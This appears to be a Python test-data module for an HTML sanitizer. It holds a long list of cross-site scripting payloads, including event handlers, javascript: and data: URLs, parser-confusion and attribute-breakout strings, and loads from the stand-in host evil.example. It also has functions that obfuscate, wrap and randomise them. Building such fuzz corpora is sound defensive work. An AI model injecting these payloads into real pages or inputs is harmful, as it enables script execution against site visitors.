"""Hostile HTML, made from parts: what runs, how it is hidden, and what it hides in."""

import random
from itertools import islice

RUNS = "top.ran=1"
SCRIPTS = [
    f"<script>{RUNS}</script>",
    f"<script src=//evil.example/x.js></script><script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<img data-picture=abc src=//evil.example/p.png onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUNS}><a>x</a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUNS}>",
    f"<body onload={RUNS}>",
    f"<iframe src=javascript:{RUNS}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<object data='javascript:{RUNS}'></object>",
    f"<embed src='javascript:{RUNS}'>",
    f"<a href='javascript:{RUNS}'>a link</a>",
    f"<a href=' &#1; java&#x09;script:{RUNS}'>a link</a>",
    "<a href='data:text/html,<script>top.ran=1</script>'>a link</a>",
    "<a href='vbscript:msgbox(1)'>a link</a>",
    "<a href='//evil.example/'>a link</a>",
    "<a href='///evil.example/'>a link</a>",
    "<a href='/\\evil.example/'>a link</a>",
    f"<input autofocus onfocus={RUNS}>",
    f"<details open ontoggle={RUNS}>x</details>",
    f"<video><source onerror={RUNS}></video>",
    f"<audio src=x onerror={RUNS}></audio>",
    f"<marquee onstart={RUNS}>x</marquee>",
    f"<form action=javascript:{RUNS}><button>x</button></form>",
    f"<isindex type=image src=1 onerror={RUNS}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUNS}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x.png)'>styled</p>",
    f"<p onclick={RUNS} onmouseover={RUNS}>a word</p>",
    f"<span data-evidence='good\" onmouseover={RUNS} x=\"' data-studies=e1>x</span>",
    f"<p data-book='x\"><script>{RUNS}</script>'>b</p>",
    f"<div data-conditions='six' onclick={RUNS}>six</div>",
    f"<ol class='steps\" onclick={RUNS} \"'><li>one</ol>",
    f"<h2 id='a\" onclick={RUNS}'>head</h2><h5>low</h5>",
    f'<noscript><p title="</noscript><img src=x onerror={RUNS}>"></noscript>',
    f"<textarea><script>{RUNS}</script></textarea>",
    f"<title></title><img src=x onerror={RUNS}>",
    f"<template><script>{RUNS}</script></template>",
    f"<plaintext><img src=x onerror={RUNS}>",
    f"<xmp><img src=x onerror={RUNS}></xmp>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUNS}>">',
    f"<math><mi//xlink:href='data:x,<script>{RUNS}</script>'>",
    f"<!--><img src=x onerror={RUNS}>-->",
    f"<![CDATA[><img src=x onerror={RUNS}>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUNS}</x:script>",
    f"<custom-tag onpointerenter={RUNS} autofocus tabindex=1>x</custom-tag>",
    f"<table><tr><td background='javascript:{RUNS}'>x</table>",
    f"<select><option><style></option></select><img src=x onerror={RUNS}></style>",
]
AROUND = [
    "{}",
    "<p>{}</p>",
    "<p>before {} after",
    "<ul><li>{}<li><p>two</p><p>three</p></ul>",
    "<blockquote>{}<h3>in it</h3></blockquote>",
    "<h2>{}</h2>",
    "<h3>{}</h3><h2></h2><h6>six</h6>",
    "<strong><em>{}</strong></em>",
    "<a href=/articles/>{}</a>",
    "<a href=/a><p>one<a href=/b>{}</a></p></a>",
    "<span data-evidence=good data-studies='e07'>{}</span>",
    "<figure><img data-picture=abc><figcaption>{}</figcaption></figure>",
    "<p><button><p>{}</p></button></p>",
    "<p><svg><foreignObject><p>{}</p></foreignObject></svg></p>",
    "<table><tr><td><p>{}</td></tr>out</table>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg><desc><p>{}</p></desc></svg>",
    "<div><div data-conditions=six>{}</div></div>",
    "<p data-book=neck>{}</p>",
    "<li>{}<ol class=steps><li>one</ol>",
    "<noscript>{}</noscript>",
    "<template>{}</template>",
    "<select><template>{}</template></select>",
    "<dl><dt>{}<dd>x</dl>",
    "<b><i><b>{}</i></b></b>",
]


def _plain(text, dice):
    return text


def _capitals(text, dice):
    return "".join(dice.choice((c.lower(), c.upper())) for c in text)


def _entities(text, dice):
    return text.replace("<", "&lt;").replace("script", "&#115;cript")


def _slashes(text, dice):
    return text.replace(" ", "/", 1)


def _zeros(text, dice):
    at = dice.randrange(len(text))
    return text[:at] + dice.choice(("\0", "\x0b", "\ufeff", "\u2028")) + text[at:]


def _doubled(text, dice):
    return text.replace("<", "<<", 1).replace("script", "scr<script>ipt")


def _cut(text, dice):
    return text[: dice.randrange(1, len(text) + 1)]


def _turned(text, dice):
    at = dice.randrange(len(text))
    return text[at:] + text[:at]


def _torn(text, dice):
    at = dice.randrange(len(text))
    return (
        text[:at] + dice.choice(("\n", "\t", "<!--", "-->", ">", '"', "'")) + text[at:]
    )


HIDDEN = (
    _plain,
    _capitals,
    _entities,
    _slashes,
    _zeros,
    _doubled,
    _cut,
    _turned,
    _torn,
)


def _payloads(dice):
    """First every script in every surrounding; then what chance makes of them."""
    yield from SCRIPTS
    while True:
        text = dice.choice(SCRIPTS)
        for _time in range(dice.randrange(3)):
            text = dice.choice(HIDDEN)(text, dice) or text
        for _time in range(dice.randrange(1, 4)):
            text = dice.choice(AROUND).replace("{}", text, 1)
        yield text + dice.choice(("", dice.choice(SCRIPTS)))


def payloads(count, *, seed=20261207):
    """So many, all different, the same each time."""
    seen = dict.fromkeys(islice(_payloads(random.Random(seed)), count * 2))
    return list(islice(seen, count))


ELEMENTS = [
    *("<p>", "</p>", "<h1>", "<h2>", "</h2>", "<h3 id=a>", "</h3>", "<h6>", "<br>"),
    *("<ul>", "</ul>", "<ol class=steps>", "</ol>", "<li>", "</li>", "<blockquote>"),
    *("</blockquote>", "<figure>", "</figure>", "<figcaption>", "</figcaption>"),
    *("<img data-picture=ab>", "<b>", "</b>", "<em>", "</em>", "<a href=/x/>", "</a>"),
    *("<span data-evidence=good data-studies=e1>", "<span>", "</span>", "<div>"),
    *("</div>", "<div data-conditions>", "<p data-book=neck>", "<table>", "<td>"),
    *("</table>", "<svg>", "</svg>", "<math>", "<mtext>", "<button>", "</button>"),
    *("<select>", "<template>", "</template>", "<!--", "-->", "<form>", "</form>"),
    *(" ", "\n", "a word ", "\u00a0", "&amp;", "<", "&lt;b&gt;", "<foreignObject>"),
]


def soups(count, *, seed=20261208):
    """So many texts of elements opened and closed as chance would have it."""
    dice = random.Random(seed)
    for _text in range(count):
        yield "".join(dice.choices(ELEMENTS, k=dice.randrange(1, 25)))
